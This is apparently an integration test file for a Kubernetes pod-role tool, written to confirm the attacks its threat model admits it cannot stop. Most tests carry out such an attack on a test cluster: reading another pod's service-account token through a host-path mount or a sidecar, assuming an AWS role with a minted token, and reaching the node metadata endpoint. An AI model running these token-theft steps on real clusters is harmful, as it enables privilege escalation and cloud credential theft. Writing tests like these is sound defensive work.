"""What podrole cannot stop on a real node: each row of docs/threat-model.md that needs one is shown to be true."""

import pytest

import contract
from tests.integration.node.cluster import Node, build_container, build_pod, python
from tests.integration.node.conftest import READ_TOKEN
from tests.integration.node.store import Store
from tests.integration.node.test_roles import REACH
from tests.integration.node.test_shapes import read_audience

ASSUME = """
import boto3, sys
answer = boto3.client("sts").assume_role_with_web_identity(
    RoleArn="arn:aws:iam::111122223333:role/team-a", RoleSessionName="stolen", WebIdentityToken=sys.stdin.read().strip()
)["Credentials"]
session = boto3.Session(answer["AccessKeyId"], answer["SecretAccessKey"], answer["SessionToken"])
print(session.client("s3").list_objects_v2(Bucket="team-a")["Name"])
"""
FIND_TOKEN = f"find /host{{kubelet}}/pods/{{uid}} -path '*{contract.TOKEN_VOLUME}/token' -exec cat {{{{}}}} +"


def test_exec_into_the_sidecar_reads_the_pods_token(installed: Node, team: str) -> None:
    installed.apply(build_pod("sleep 600", role="anybody"), team)
    installed.await_ready("pod/app", team)

    token = installed.execute("app", team, "python3", "-c", READ_TOKEN, container=contract.SIDECAR_CONTAINER)

    assert read_audience(token.strip()) == [contract.TOKEN_AUDIENCE]


def test_token_of_an_account_gets_its_role_without_podrole(installed: Node, team_a: str, store: Store) -> None:
    """Who can create tokens or pods in a namespace has every role that trusts one of its accounts."""
    request = [f"--namespace={team_a}", "create", "token", "web", f"--audience={contract.TOKEN_AUDIENCE}"]
    token = installed.kubectl.run(*request).output
    settings = f"AWS_ENDPOINT_URL={store.url} AWS_REGION=us-east-1"
    pod = build_pod(f"echo {token.strip()} | {settings} {python(ASSUME)}", name="thief")
    installed.apply(pod, "default")
    try:
        log = installed.await_end("thief", "default")
    finally:
        installed.kubectl.run("delete", "pod", "thief", "--wait=false")

    print(log)
    assert log == "team-a\n"


def test_host_path_pod_reads_the_tokens_of_all_pods_of_its_node(installed: Node, team: str, plain: str) -> None:
    if installed.private is None:
        pytest.skip("the kubelet's directory is known only if the node is this machine")
    installed.apply(build_pod("sleep 600", role="anybody"), team)
    installed.await_ready("pod/app", team)
    uid = installed.read("pod", "app", team)["metadata"]["uid"]
    script = FIND_TOKEN.format(kubelet=installed.private.data / "data" / "kubelet", uid=uid)
    host = {"name": "host", "hostPath": {"path": "/"}}
    mount = {"name": "host", "mountPath": "/host", "readOnly": True}
    container = build_container(script, securityContext={"runAsUser": 0}, volumeMounts=[mount])

    token = installed.run("", plain, containers=[container], volumes=[host])

    assert read_audience(token.strip()) == [contract.TOKEN_AUDIENCE]


def test_host_network_pod_without_a_role_reaches_the_nodes_metadata(installed: Node, team: str, metadata: str) -> None:
    log = installed.run(python(REACH), team, hostNetwork=True)

    print(metadata, log)
    assert log.splitlines()[0] == "169.254.169.254 80 node-role"
